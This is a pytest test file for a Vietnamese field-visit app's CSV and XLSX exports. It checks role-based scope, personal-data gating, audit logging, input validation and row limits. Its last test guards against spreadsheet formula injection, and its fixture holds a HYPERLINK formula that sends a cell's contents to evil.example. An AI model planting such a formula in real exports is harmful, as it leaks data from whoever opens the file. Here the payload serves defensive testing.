"""Raw exports (CSV with BOM, XLSX): scope, personal data only when asked and allowed, audit, bounds."""
import csv
import io
from datetime import datetime, time, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from fieldapp.extensions import db
from fieldapp.households.operations import delete_household
from fieldapp.models import AuditLog
from fieldapp.counting import today
from fieldapp.timeutil import from_local, utcnow
from fieldapp.visits.operations import VisitData, delete_visit, log_visit

URL = "/exports/download"
OFFICER, OTHER_OFFICER, PROVINCE, LEADER, MEMBER, ADMIN = (
    "0900000001", "0900000011", "0900000012", "0900000002", "0900000003", "0900000000")
NOTE = "Bà Hà hẹn chiều thứ Bảy"


def _visit(world, key, member="member", outcome="helped", note=None, counts=None, at=None):
    visit = log_visit(world.users[member], world.households[key], VisitData(
        outcome=outcome, visited_at=at or utcnow(), note=note, counts=dict(counts or {})))
    db.session.commit()
    return visit


@pytest.fixture
def visits(world):
    world.households["h1"].head_phone = "0912345678"
    return {"v1": _visit(world, "h1", note=NOTE, counts={"vneid": 2, "ehealth": 3}),
            "v2": _visit(world, "h2", outcome="not_home"),
            "v3": _visit(world, "h3", member="member2", counts={"vneid": 1}),
            "v4": _visit(world, "h4", member="member3", note="Ông Tư ở xã khác", counts={"vneid": 1})}


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:])))


def get(client, area, **args):
    return client.get(URL, query_string={"area": area.id, "format": "csv", **args})


def audit_exports():
    db.session.expire_all()
    return db.session.scalars(select(AuditLog).where(AuditLog.entity_type == "export")).all()


def test_officer_export_is_the_commune_only_and_without_personal_data_by_default(client, world, auth, visits):
    auth.login(OFFICER)
    rows = csv_rows(get(client, world.commune))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Mã lượt thăm", "Ngày", "Giờ", "Xã/phường"]
    assert "Chủ hộ" not in header and "Ghi chú" not in header
    assert {r[0] for r in body} == {visits["v1"].id, visits["v2"].id, visits["v3"].id}  # never v4 (other commune)
    text = "\n".join(",".join(r) for r in rows)
    assert "Nguyễn Văn An" not in text and NOTE not in text and "0912345678" not in text
    # diacritics round-trip through the BOM-prefixed UTF-8
    v1 = next(r for r in body if r[0] == visits["v1"].id)
    assert v1[3:9] == ["Xã Tuy Phước", "Thôn Vinh Thạnh 1", "Tổ CNSCĐ Thôn Vinh Thạnh 1", "Nguyễn Văn Ba",
                       "VT1-001", "helped"]
    assert v1[9] == "Đã hỗ trợ" and v1[1] == today().isoformat()
    assert audit_exports() == []  # nothing personal: nothing to log


def test_assistance_lines_as_csv(client, world, auth, visits):
    auth.login(OFFICER)
    rows = csv_rows(get(client, world.commune, table="assistance"))
    assert rows[0] == ["Mã lượt thăm", "Ngày", "Thôn", "Mã dịch vụ", "Dịch vụ", "Số lượng"]
    lines = {(r[0], r[3]): r[5] for r in rows[1:]}
    assert lines == {(visits["v1"].id, "vneid"): "2", (visits["v1"].id, "ehealth"): "3",
                     (visits["v3"].id, "vneid"): "1"}


def test_personal_data_when_asked_by_the_officer_is_exported_and_audited(client, world, auth, visits):
    auth.login(OFFICER)
    rows = csv_rows(get(client, world.commune, personal="y"))
    assert rows[0][-3:] == ["Chủ hộ", "Số điện thoại", "Ghi chú"]
    v1 = next(r for r in rows if r[0] == visits["v1"].id)
    assert v1[-3:] == ["Nguyễn Văn An", "0912345678", NOTE]
    (entry,) = audit_exports()
    assert entry.action == "export" and entry.actor_id == world.users["officer"].id
    assert entry.area_path == world.commune.path and entry.entity_id == str(world.commune.id)
    assert entry.after["personal"] is True and entry.after["from"] <= entry.after["to"] == today().isoformat()
    assert entry.after["rows"] == 3
    stored = str(entry.after)
    assert "Nguyễn Văn An" not in stored and NOTE not in stored  # who/where/when, never the data
    audit_page = client.get("/audit")
    assert audit_page.status_code == 200 and "Xuất dữ liệu" in audit_page.get_data(as_text=True)


def test_leader_may_export_their_village_with_personal_data_but_no_other_village(client, world, auth, visits):
    auth.login(LEADER)
    rows = csv_rows(get(client, world.village1, personal="y"))
    assert {r[0] for r in rows[1:]} == {visits["v1"].id, visits["v2"].id}
    assert any(NOTE in r for r in rows)
    assert get(client, world.village2).status_code == 404
    assert get(client, world.commune).status_code == 404
    assert get(client, world.village3, personal="y").status_code == 404
    assert len(audit_exports()) == 1


@pytest.mark.parametrize("phone", [PROVINCE, ADMIN])
def test_province_viewer_and_admin_get_counts_but_never_personal_data(client, world, auth, visits, phone):
    auth.login(phone)
    assert get(client, world.province, personal="y").status_code == 403
    rows = csv_rows(get(client, world.province))
    assert {r[0] for r in rows[1:]} == {v.id for v in visits.values()}
    assert "Chủ hộ" not in rows[0] and not any(NOTE in ",".join(r) for r in rows)
    assert audit_exports() == []
    page = client.get("/exports").get_data(as_text=True)
    assert 'name="personal"' not in page


def test_member_may_not_export_and_other_commune_is_404(client, world, auth, visits):
    auth.login(MEMBER)
    assert client.get("/exports").status_code == 403
    assert get(client, world.village1).status_code == 403
    auth.logout()
    auth.login(OFFICER)
    assert get(client, world.other_commune).status_code == 404
    assert get(client, world.province).status_code == 404
    assert get(client, world.village3).status_code == 404
    auth.logout()
    auth.login(OTHER_OFFICER)
    rows = csv_rows(get(client, world.other_commune, personal="y"))
    assert {r[0] for r in rows[1:]} == {visits["v4"].id}


def test_anonymous_is_sent_to_sign_in(client, world):
    r = client.get(URL, query_string={"area": world.commune.id})
    assert r.status_code == 302 and "/login" in r.headers["Location"]


def test_xlsx_has_two_sheets_with_numbers_as_numbers(client, world, auth, visits):
    auth.login(OFFICER)
    r = client.get(URL, query_string={"area": world.commune.id, "format": "xlsx"})
    assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in r.headers["Content-Disposition"] and "filename*=UTF-8''" in r.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(r.data))
    assert book.sheetnames == ["Lượt thăm", "Hỗ trợ theo dịch vụ"]
    visits_ws, lines_ws = book.worksheets
    assert visits_ws.max_row == 4 and visits_ws["E2"].value.startswith("Thôn")
    assert visits_ws.freeze_panes == "A2" and visits_ws["A1"].font.bold
    assert isinstance(visits_ws["B2"].value, datetime) and visits_ws["B2"].value.date() == today()
    counts = [row[5] for row in lines_ws.iter_rows(min_row=2, values_only=True)]
    assert sorted(counts) == [1, 2, 3] and all(isinstance(n, int) for n in counts)


@pytest.mark.parametrize("args, message", [
    ({"from": "2026-13-01"}, "Ngày không hợp lệ"),
    ({"from": "hôm qua"}, "Ngày không hợp lệ"),
    ({"from": "2026-03-02", "to": "2026-03-01"}, "Ngày bắt đầu phải trước hoặc bằng ngày kết thúc"),
    ({"from": "2024-01-01", "to": "2025-06-01"}, "tối đa 366 ngày"),
    ({"format": "pdf"}, "Vui lòng chọn một trong các lựa chọn"),
])
def test_bad_input_is_a_400_with_the_form_and_what_was_typed(client, world, auth, visits, args, message):
    auth.login(OFFICER)
    r = get(client, world.commune, **args)
    html = r.get_data(as_text=True)
    assert r.status_code == 400 and message in html
    for value in args.values():
        if "-" in value:
            assert f'value="{value}"' in html or value == "2026-13-01"


def test_area_that_is_not_a_number_is_a_400(client, world, auth):
    auth.login(OFFICER)
    r = client.get(URL, query_string={"area": "abc"})
    assert r.status_code == 400 and "Địa bàn không hợp lệ" in r.get_data(as_text=True)
    assert client.get(URL, query_string={"area": 99999999999}).status_code == 400
    rows = csv_rows(client.get(URL, query_string={"format": "csv"}))  # no area: the officer's commune
    assert rows[0][0] == "Mã lượt thăm"
    auth.logout()
    auth.login(ADMIN)
    r = client.get(URL, query_string={"format": "csv"})
    assert r.status_code == 400 and "Vui lòng chọn địa bàn" in r.get_data(as_text=True)


def test_deleted_visits_and_households_are_left_out(client, world, auth, visits):
    delete_visit(world.users["member"], visits["v2"])
    delete_household(world.users["member2"], world.households["h3"])
    db.session.commit()
    auth.login(OFFICER)
    assert {r[0] for r in csv_rows(get(client, world.commune))[1:]} == {visits["v1"].id}
    assert {r[0] for r in csv_rows(get(client, world.commune, table="assistance"))[1:]} == {visits["v1"].id}


def test_days_are_vietnam_days(client, world, auth):
    """A visit at 23:30 Vietnam time yesterday (16:30 UTC) belongs to yesterday, whatever the hour now."""
    h1 = world.households["h1"]
    h1.created_at = utcnow() - timedelta(days=5)
    db.session.commit()
    yesterday = today() - timedelta(days=1)
    late = _visit(world, "h1", outcome="not_home", at=from_local(datetime.combine(yesterday, time(23, 30))))
    auth.login(OFFICER)
    rows = csv_rows(get(client, world.village1, **{"from": yesterday.isoformat(), "to": yesterday.isoformat()}))
    assert [(r[0], r[1], r[2]) for r in rows[1:]] == [(late.id, yesterday.isoformat(), "23:30")]
    rows = csv_rows(get(client, world.village1, **{"from": today().isoformat(), "to": today().isoformat()}))
    assert rows[1:] == []


def test_too_many_rows_asks_for_a_shorter_range(client, world, auth, visits, monkeypatch):
    from fieldapp.exports import routes
    monkeypatch.setattr(routes, "MAX_ROWS", 2)
    auth.login(OFFICER)
    r = get(client, world.commune, personal="y")
    assert r.status_code == 400 and "khoảng ngày ngắn hơn" in r.get_data(as_text=True)
    assert audit_exports() == []
    assert csv_rows(get(client, world.village1))  # two visits: within the bound
    monkeypatch.setattr(routes, "MAX_ROWS", 5)
    monkeypatch.setattr(routes, "MAX_XLSX_ROWS", 2)
    r = get(client, world.commune, format="xlsx")
    assert r.status_code == 400 and "định dạng CSV" in r.get_data(as_text=True)
    assert get(client, world.commune, format="csv").status_code == 200


def test_the_form_page_is_limited_to_the_scope_and_linked_from_the_dashboard(client, world, auth):
    auth.login(OFFICER)
    dashboard = client.get(f"/dashboard/{world.commune.id}").get_data(as_text=True)
    assert f"/exports?area={world.commune.id}" in dashboard
    page = client.get(f"/exports?area={world.village1.id}&from=2026-01-01&to=2026-01-31").get_data(as_text=True)
    assert f'<option selected value="{world.village1.id}">' in page
    assert "Thôn Phú Mỹ" not in page and "Gia Lai" not in page  # another commune, the province above
    assert 'name="personal"' in page and 'value="2026-01-01"' in page
    page = client.get(f"/exports?area={world.village3.id}").get_data(as_text=True)
    assert "Thôn Phú Mỹ" not in page  # out of scope: not offered


FORMULA_CODE = "=1+1"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def test_a_household_code_or_name_that_is_a_formula_is_exported_as_text(client, world, auth):
    """Issue 17.1: the code reaches every leader, officer and province viewer in the non-personal export."""
    from tests.factories import household
    h = household(world.users["member"], world.village1, FORMULA_CODE, head_name=FORMULA_NAME, consent=True)
    _visit(world, "h1", outcome="revisit", note="@SUM(1+1)")
    log_visit(world.users["member"], h, VisitData(outcome="not_home", visited_at=utcnow(), note="-2+3"))
    db.session.commit()
    auth.login(OFFICER)
    rows = csv_rows(get(client, world.commune, personal="y"))
    cells = {c for r in rows for c in r}
    assert {"'" + FORMULA_CODE, "'" + FORMULA_NAME, "'-2+3", "'@SUM(1+1)"} <= cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    r = client.get(URL, query_string={"area": world.commune.id, "format": "xlsx", "personal": "y"})
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.data))
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert {FORMULA_CODE, FORMULA_NAME, "-2+3", "@SUM(1+1)"} <= {c.value for c in texts}
    assert all(c.quotePrefix for c in texts if c.value[:1] in ("=", "+", "-", "@", "\t", "\r"))
